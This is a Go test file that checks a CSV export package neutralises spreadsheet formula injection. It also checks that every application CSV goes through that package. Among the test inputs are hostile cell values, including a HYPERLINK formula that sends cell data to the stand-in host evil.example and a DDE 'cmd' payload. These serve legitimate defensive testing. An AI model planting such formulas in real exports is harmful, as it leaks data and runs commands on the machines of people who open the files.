package csvexport_test

import (
	"bytes"
	"encoding/csv"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"partnerdesk/internal/csvexport"
)

// Finding 4: every cell a spreadsheet could run as a formula is neutralised.
func TestNeutralise(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"", ""},
		{"Contoso Ltd.", "Contoso Ltd."},
		{"2026-11-25T10:00:00.000Z", "2026-11-25T10:00:00.000Z"},
		{"INV-2026-11-HUF", "INV-2026-11-HUF"},
		{"6f1c2d3e-0000-4000-8000-000000000000", "6f1c2d3e-0000-4000-8000-000000000000"},
		{"adminagent@partner.example", "adminagent@partner.example"},
		{"a=b", "a=b"},
		// Amounts stay numbers.
		{"-3.05", "-3.05"},
		{"12000", "12000"},
		{"-710700", "-710700"},
		// Formula starts.
		{"=1+1", "'=1+1"},
		{"+1+1", "'+1+1"},
		{"-1+1", "'-1+1"},
		{"-", "'-"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"|calc", "'|calc"},
		{"%0A", "'%0A"},
		{`=HYPERLINK("https://evil.example/?"&A1,"x")`, `'=HYPERLINK("https://evil.example/?"&A1,"x")`},
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"＝1+1", "'＝1+1"},
		{"＋1", "'＋1"},
		// After leading spaces, tabs, line breaks and invisible characters.
		{" =1+1", "' =1+1"},
		{"   @x", "'   @x"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"\n=1+1", "'\n=1+1"},
		{"\u00a0=1+1", "'\u00a0=1+1"},
		{"\u200b=1+1", "'\u200b=1+1"},
		{"\u3000+1", "'\u3000+1"},
		// Tab-, CR- and LF-led cells whatever follows.
		{"\tplain", "'\tplain"},
		{"\rplain", "'\rplain"},
		{"\nplain", "'\nplain"},
	} {
		if got := csvexport.Neutralise(tt.in); got != tt.want {
			t.Errorf("Neutralise(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestWriterNeutralisesEveryCell(t *testing.T) {
	var buf bytes.Buffer
	w := csvexport.NewWriter(&buf)
	w.Write("id", "name", "amount")
	w.Write("=1", " +2", "-3.05")
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(recs[1], "|"); got != "'=1|' +2|-3.05" {
		t.Fatalf("row %q", got)
	}
}

// Every CSV the application writes goes through this package: no other file makes a CSV writer.
func TestEveryExportUsesTheWriter(t *testing.T) {
	root := filepath.Join("..", "..")
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (d.Name() == "node_modules" || d.Name() == ".git" || d.Name() == "testdata") {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") || filepath.Base(filepath.Dir(path)) == "csvexport" {
			return nil
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if strings.Contains(string(b), "csv.NewWriter(") {
			t.Errorf("%s makes its own CSV writer: use csvexport.NewWriter, which neutralises formulas", path)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}
